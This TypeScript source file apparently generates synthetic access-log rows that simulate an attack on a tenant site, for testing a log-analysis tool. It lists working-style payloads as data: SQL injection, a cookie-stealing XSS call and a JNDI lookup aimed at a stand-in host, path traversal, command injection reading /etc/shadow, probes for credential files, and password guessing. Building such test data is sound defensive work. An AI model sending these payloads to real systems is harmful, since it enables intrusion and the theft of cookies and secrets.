import type { AccessLine } from "./corpus.ts";
import type { SampleOptions } from "./generate.ts";
import { createRandom } from "./random.ts";
import { rowText } from "./row.ts";
import type { RowContext } from "./row-context.ts";
import type { SampleTableName } from "./tables/sample-tables.ts";
import { appServiceHttpLog, gatewayAccessLog } from "./tables/web.ts";
import { sampleTenants } from "./tenants.ts";
import { logInstant } from "./timeline.ts";

/** Addresses for documentation (RFC 5737): nobody has them. */
export const attackSources = { payloads: "203.0.113.66", logins: "198.51.100.23" } as const;

export interface SampleAttack {
  readonly table: SampleTableName;
  readonly host: string;
  readonly rows: string[];
}

const lastMs = 8 * 60_000;

/**
 * An attack on a tenant's site in the eight minutes before `now`: one source tries injections and looks for files, another
 * guesses passwords. The requests are written for this purpose; they aim at pages that do not exist.
 */
export function sampleAttack({ now, tenant: key, seed = "log-doctor" }: SampleOptions): SampleAttack {
  const tenant = sampleTenants[key];
  const table = key === "kr" ? "AppServiceHTTPLogs" : "AGWAccessLogs";
  const build = key === "kr" ? appServiceHttpLog : gatewayAccessLog;
  const random = createRandom([seed, key, "attack", now.toISOString()].join("/"));
  const lines = attackLines();
  const rows = lines.map((line, index) => {
    const ms = now.getTime() - lastMs + Math.floor((index / lines.length) * lastMs);
    const time = logInstant(ms, random.int(0, 9_999));
    const itemId = random.guid();
    const context: RowContext = { tenant, random, index, ms, time };
    const { resource, fields } = build(context, line);
    return rowText({ table, tenant, time, itemId, resourceId: resource }, fields);
  });
  return { table, host: `${key === "kr" ? "www" : "pay"}.${tenant.domain}`, rows };
}

const browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36";
const tool = "sqlmap/1.8.6#stable (https://sqlmap.org)";

/** Values of a parameter as an attacker sends them, with the page that takes it and the status that it got. */
const payloads: readonly (readonly [path: string, parameter: string, value: string, status: number])[] = [
  ["/catalogue/item", "id", "42' AND '1'='1", 200],
  ["/catalogue/item", "id", "42' AND '1'='2", 404],
  ["/catalogue/item", "id", "-1' UNION ALL SELECT NULL,NULL,version()-- -", 500],
  ["/catalogue/item", "id", "42 AND (SELECT 1 FROM (SELECT SLEEP(5))x)", 200],
  ["/catalogue/item", "id", "1 UNION/**/SELECT table_name,2,3 FROM information_schema.tables--", 500],
  ["/search", "q", "<script>fetch('//collector.invalid/?c='+document.cookie)</script>", 200],
  ["/search", "q", '"><img src=x onerror=alert(document.domain)>', 200],
  ["/files/download", "name", "../../../../../../etc/passwd", 403],
  ["/files/download", "name", "..\\..\\..\\windows\\win.ini", 403],
  ["/tools/ping", "host", "127.0.0.1;cat /etc/shadow", 404],
  ["/", "lang", "\x24{jndi:ldap://collector.invalid:1389/a}", 200],
];
const files = ["/.env", "/.git/config", "/backup.sql", "/wp-config.php.bak", "/.aws/credentials", "/phpmyadmin/"];
const guesses = 45;

function attackLines(): AccessLine[] {
  const injected = payloads.map(([path, name, value, status], i) =>
    request({ path, query: `${name}=${encodeURIComponent(value)}`, status, userAgent: i < 5 ? tool : browser }),
  );
  const probed = files.map((path) => request({ path, status: 404 }));
  const login = { method: "POST", path: "/account/login", status: 401, clientIp: attackSources.logins };
  const guessed = Array.from({ length: guesses }, () => request(login));
  return [...probed, ...injected, ...guessed];
}

function request(of: Partial<AccessLine> & Pick<AccessLine, "path" | "status">): AccessLine {
  const { payloads: clientIp } = attackSources;
  const usual = { clientIp, method: "GET", query: "", version: "HTTP/1.1", bytes: 512, referer: "-" };
  return { ...usual, userAgent: browser, ...of };
}
